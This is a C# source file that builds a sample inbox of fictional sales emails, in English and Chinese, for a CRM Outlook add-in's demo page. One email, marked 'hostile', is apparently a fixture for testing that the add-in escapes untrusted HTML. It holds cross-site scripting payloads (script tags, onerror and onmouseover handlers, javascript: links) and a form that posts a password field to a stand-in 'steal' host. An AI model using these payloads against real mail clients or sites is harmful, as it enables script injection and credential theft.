using Collaboration.Application.DemoData;

namespace Collaboration.Addin.Try;

/// <summary>The sample inbox of <c>/try</c>: senders from the demo data where the story needs a known customer.</summary>
public static class SampleInbox
{
    private static readonly SampleAddress DemoRep = new("Alex Wilber", "alex.wilber@collaboration.demo");

    public static IReadOnlyList<SampleEmail> Build(DemoLoggedThread? thread, DemoCustomer? chineseCustomer, DateTimeOffset now)
    {
        var emails = new List<SampleEmail>();
        void Add(string id, string kind, string language, SampleAddress from, string subject, string bodyHtml, TimeSpan ago, string? conversationId = null) =>
            emails.Add(new SampleEmail(id, kind, language, from, [DemoRep], [], subject, bodyHtml, $"<{id}@sample-inbox.collaboration.demo>",
                conversationId ?? $"sample-{id}", $"AAMkAD-sample-{id}", now - ago));

        Add("bant", "bant", "en", new("Daniel Kim", "daniel.kim@brightpath-logistics.com"),
            "CRM for our 120-person sales team",
            """
            <p>Hello Alex,</p>
            <p>I'm the VP of Sales at BrightPath Logistics and I make the final decision on this purchase.</p>
            <p>We have an approved budget of $150,000 for a new CRM this year. Our reps lose deals because nothing
            is tracked in Outlook and Teams, and that is a serious pain point for us.</p>
            <p>We need it live by the end of March. Could you send a proposal?</p>
            <p>Best regards,<br>Daniel Kim</p>
            """,
            TimeSpan.FromMinutes(12));
        if (thread is not null)
        {
            var contact = new SampleAddress(thread.ContactName, thread.ContactEmail);
            Add("thread-reply", "loggedThread", "en", contact, "RE: " + thread.Subject,
                $"""
                <p>Hi Alex,</p>
                <p>Thanks for the revised proposal. Legal has a few comments on the terms; I'll send them by Friday.</p>
                <p>{System.Net.WebUtility.HtmlEncode(thread.ContactName)}</p>
                """,
                TimeSpan.FromMinutes(40), DemoPlayground.LoggedThreadConversationId);
            Add("known", "knownCustomer", "en", contact, "Question about the rollout",
                """
                <p>Hi Alex,</p>
                <p>Quick question before our next call: can the rollout start with one team and grow from there?</p>
                <p>Thanks!</p>
                """,
                TimeSpan.FromHours(3));
        }
        Add("new-company", "newCompany", "en", new("Priya Nair", "priya.nair@kestrelrobotics.com"),
            "Pricing for 40 seats",
            """
            <p>Hello,</p>
            <p>We are a robotics start-up evaluating CRMs that work inside Outlook. Could you send pricing for 40 seats?</p>
            <p>Priya Nair<br>Operations, Kestrel Robotics</p>
            """,
            TimeSpan.FromHours(5));
        Add("gmail", "freeMail", "en", new("Tom Baker", "tom.baker.1987@gmail.com"),
            "Demo for my consulting clients?",
            """
            <p>Hi there,</p>
            <p>I'm an independent consultant and a few of my clients are looking for a CRM. Could we set up a demo?</p>
            <p>Tom</p>
            """,
            TimeSpan.FromHours(9));
        Add("hostile", "hostile", "en", new("Invoice Department <script>alert(1)</script>", "billing@invoice-alerts.example"),
            "<img src=x onerror=alert('subject')> Your invoice is overdue",
            """
            <p>Your invoice is overdue.</p>
            <script>alert('script tag'); document.title = 'owned';</script>
            <img src="x" onerror="alert('onerror')">
            <p onmouseover="alert('mouseover')">Hover here for details.</p>
            <a href="javascript:alert('link')">Pay now</a>
            <iframe src="javascript:alert('frame')"></iframe>
            <form action="https://invoice-alerts.example/steal"><input name="password"></form>
            """,
            TimeSpan.FromDays(1));
        if (chineseCustomer is not null)
        {
            Add("known-zh", "knownCustomer", "zh", new(chineseCustomer.ContactName, chineseCustomer.ContactEmail),
                "关于" + chineseCustomer.DealName + "的进展",
                """
                <p>Alex 您好：</p>
                <p>我们内部已经讨论过方案，想下周再约一次会议，确认实施计划。</p>
                <p>谢谢！</p>
                """,
                TimeSpan.FromDays(1) + TimeSpan.FromHours(2));
        }
        Add("new-company-zh", "newCompany", "zh", new("王磊", "wanglei@hengtong-auto.cn"),
            "询价：CRM 系统 100 个账号",
            """
            <p>您好，</p>
            <p>我们是恒通汽车配件，想了解贵公司 CRM 的报价，大约需要 100 个账号。</p>
            <p>王磊<br>恒通汽车配件 采购部</p>
            """,
            TimeSpan.FromDays(2));
        Add("bant-zh", "bant", "zh", new("周婷", "zhouting@meiya-retail.cn"),
            "门店销售管理系统采购",
            """
            <p>Alex 您好，</p>
            <p>我是美雅零售的采购总监，这个项目由我负责决策。</p>
            <p>今年的预算已经批准，80 万元。我们的销售线索分散在各个门店，急需统一管理。</p>
            <p>希望 3 月底前上线，请尽快回复报价。</p>
            <p>周婷</p>
            """,
            TimeSpan.FromDays(3));
        return emails;
    }
}
